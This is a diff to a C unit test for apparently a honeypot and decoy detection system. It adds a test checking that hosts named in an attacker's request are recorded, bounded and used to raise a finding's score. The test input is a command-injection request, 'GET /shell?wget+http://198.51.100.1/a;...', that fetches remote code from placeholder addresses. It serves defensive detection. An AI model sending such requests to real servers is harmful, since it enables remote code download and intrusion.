@@ -1,5 +1,6 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
 /* What becomes an attacker's, and what never does, whoever tries. */
+#include "server/detect/detect.h"
 #include "server/fleet/decoys.h"
 #include "server/store/writer.h"
 #include "tests/unit/tree.h"
@@ -67,14 +68,15 @@ teardown(void **state)
 }
 
 static void
-comes(struct fixture *f, const char *address, bool is_honeypot, bool success)
+comes_and_says(
+    struct fixture *f, const char *address, const char *said, bool is_honeypot, bool success)
 {
 	struct login_event ev = { .host = HONEYPOT,
 		.host_name = "hp1",
 		.daemon = "",
 		.user = "root",
 		.method = "redis",
-		.wanted = "",
+		.wanted = said,
 		.decoy = !is_honeypot,
 		.success = success,
 		.count = 1,
@@ -82,7 +84,13 @@ comes(struct fixture *f, const char *address, bool is_honeypot, bool success)
 
 	ev.address_size = strchr(address, ':') != NULL ? 16 : 4;
 	inet_pton(ev.address_size == 4 ? AF_INET : AF_INET6, address, ev.address);
-	decoys_came(f->decoys, &ev, is_honeypot);
+	decoys_came(f->decoys, &ev, attack_request(said, strlen(said)), is_honeypot);
+}
+
+static void
+comes(struct fixture *f, const char *address, bool is_honeypot, bool success)
+{
+	comes_and_says(f, address, "", is_honeypot, success);
 }
 
 static const struct attack *
@@ -137,6 +145,41 @@ who_is_never_blocked_and_hosts_of_the_fleet_are_no_attackers(void **state)
 	decoys_own(f->decoys, "");
 	assert_null(known(f->decoys, "10.0.0.5"));
 	assert_null(known(f->decoys, "2001:db8::5"));
+}
+
+static bool
+is_named(const struct fixture *f, uint8_t last)
+{
+	const uint8_t raw[4] = { 198, 51, 100, last };
+	uint8_t to[16];
+
+	return attacks_find(decoys_attacks(f->decoys), ATTACK_NAMED, attack_source(raw, 4, to),
+		   NOW_US) != NULL;
+}
+
+static void
+what_a_visitor_says_is_known_and_bounded(void **state)
+{
+	static const char path[] = "GET /shell?cd HTTP/1.1";
+	struct login_found found = { .source = "203.0.113.77", .time_us = NOW_US };
+	struct finding f = { .score = 50 };
+	struct fixture *fix = *state;
+
+	comes_and_says(fix, "203.0.113.9",
+	    "GET /shell?wget+http://198.51.100.1/a;192.0.2.1;198.51.100.2;198.51.100.3;198.51.100.4;198.51.100.5",
+	    false, false);
+	assert_true(is_named(fix, 1));
+	assert_true(is_named(fix, 3));
+	assert_false(is_named(fix, 5)); /* no more of one visitor's words */
+	decoys_own(fix->decoys, "198.51.100.1:443");
+	assert_false(is_named(fix, 1));
+	decoys_say(fix->decoys, &found, attack_request(path, strlen(path)), &f);
+	assert_true(f.score > 50);
+	assert_non_null(
+	    strstr(f.reason, "the decoy redis on host hp1 was asked for the same path "));
+	f = (struct finding){ .score = 50 };
+	decoys_say(fix->decoys, &found, attack_request("GET /other ", 11), &f);
+	assert_string_equal(f.reason, "");
 }
 
 static void
@@ -212,6 +255,7 @@ main(void)
 	const struct CMUnitTest tests[] = {
 		TEST(who_comes_is_known_with_host_and_decoy),
 		TEST(who_is_never_blocked_and_hosts_of_the_fleet_are_no_attackers),
+		TEST(what_a_visitor_says_is_known_and_bounded),
 		TEST(a_honeypot_teaches_only_while_somebody_is_in_it),
 		TEST(what_is_told_of_a_honeypot_begins_an_attack),
 		TEST(what_ordinary_hosts_do_never_counts),
